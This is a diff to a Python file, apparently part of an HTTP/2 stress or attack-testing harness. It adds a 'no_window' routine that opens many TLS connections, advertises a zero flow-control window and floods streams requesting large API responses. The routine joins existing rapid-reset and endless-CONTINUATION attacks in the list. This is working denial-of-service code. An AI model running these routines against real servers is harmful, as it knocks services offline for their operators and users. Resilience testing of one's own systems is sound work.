@@ -396,6 +396,21 @@ def many_streams(attack: Attack) -> None:
         time.sleep(0.1)
 
 
+def no_window(attack: Attack) -> None:
+    """Ask for large answers on streams that may carry nothing (RFC 9113, section 6.9.2)."""
+    settings = frame(4, 0, 0, struct.pack(">HI", 4, 0))
+    path = f"/v1/storage/list?{query('/data/many', limit=1000)}"
+    # Of the document anybody may have as many as he likes.
+    blocks = headers_of(attack.token, path), headers_of("", "/v1/openapi.json")
+    for number in range(128):
+        with contextlib.suppress(OSError):
+            one = attack.tls(number % 4, protocol="h2")
+            streams = [frame(1, 5, 2 * each + 1, blocks[each % 2]) for each in range(64)]
+            one.sendall(PREFACE + settings + b"".join(streams))
+    while attack.is_on:
+        time.sleep(0.1)
+
+
 def endless_headers(attack: Attack) -> None:
     """Send a block of headers that goes on for ever (CONTINUATION without END_HEADERS)."""
     while attack.is_on:
@@ -466,6 +481,7 @@ ATTACKS: list[Callable[[Attack], None]] = [
     slow_readers,
     rapid_resets,
     many_streams,
+    no_window,
     endless_headers,
     pings_and_settings,
     guessed_tickets,
